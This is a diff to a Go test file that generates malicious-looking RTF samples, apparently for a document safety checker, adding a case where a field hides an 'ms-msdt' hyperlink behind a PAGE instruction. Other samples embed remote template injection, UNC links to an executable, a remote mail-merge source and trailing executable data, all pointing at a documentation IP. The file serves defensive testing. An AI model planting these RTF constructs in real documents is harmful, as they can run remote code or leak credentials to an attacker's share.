@@ -116,11 +116,13 @@ func generatedCorpus(t *testing.T) map[string]string {
 		// piece a reader could take as the target is judged.
 		"gen-hyperlink-space-words.rtf": docStart + `{\field{\*\fldinst HYPERLINK https://www.example.jp/\tab file://198.51.100.7/share/x.exe}{\fldrslt tab}} ` +
 			`{\field{\*\fldinst HYPERLINK https://www.example.jp/\emspace \\\\198.51.100.7\\share\\x.exe}{\fldrslt emspace}}` + docEnd,
-		"gen-template.rtf":      `{\rtf1\ansi{\fonttbl{\f0 Arial;}}{\*\template http://198.51.100.7/remote.dotm}\pard Template injection.\par}` + "\r\n",
-		"gen-mailmerge.rtf":     `{\rtf1\ansi{\fonttbl{\f0 Arial;}}{\*\mailmerge\mmmaintypeform{\*\mmconnectstr DSN=x;DBQ=\\\\198.51.100.7\\share\\x.mdb}{\*\mmquery SELECT * FROM x}}\pard Merge.\par}` + "\r\n",
-		"gen-trailing-data.rtf": docStart + `Body.` + docEnd + "MZ\x90\x00\x03 payload after the document",
-		"gen-control-chars.rtf": docStart + "Text with a NUL\x00 and a bell\x07 inside." + docEnd,
-		"gen-unicode.rtf":       docStart + `\uc1 \u35531?\u27714?\u26360? {\f0\'93\'fa\'96\'7b} text` + docEnd,
+		// Two instructions: LibreOffice links to the last, a judge of the joined text sees PAGE.
+		"gen-field-two-instructions.rtf": docStart + `{\field{\*\fldinst PAGE }{\*\fldinst HYPERLINK "ms-msdt:/id PCWDiagnostic"}{\fldrslt two}}` + docEnd,
+		"gen-template.rtf":               `{\rtf1\ansi{\fonttbl{\f0 Arial;}}{\*\template http://198.51.100.7/remote.dotm}\pard Template injection.\par}` + "\r\n",
+		"gen-mailmerge.rtf":              `{\rtf1\ansi{\fonttbl{\f0 Arial;}}{\*\mailmerge\mmmaintypeform{\*\mmconnectstr DSN=x;DBQ=\\\\198.51.100.7\\share\\x.mdb}{\*\mmquery SELECT * FROM x}}\pard Merge.\par}` + "\r\n",
+		"gen-trailing-data.rtf":          docStart + `Body.` + docEnd + "MZ\x90\x00\x03 payload after the document",
+		"gen-control-chars.rtf":          docStart + "Text with a NUL\x00 and a bell\x07 inside." + docEnd,
+		"gen-unicode.rtf":                docStart + `\uc1 \u35531?\u27714?\u26360? {\f0\'93\'fa\'96\'7b} text` + docEnd,
 
 		// Tolerated where Word and LibreOffice open the file and its meaning is clear.
 		"gen-unclosed-groups.rtf": docStart + `{\b never closed` + docEnd,
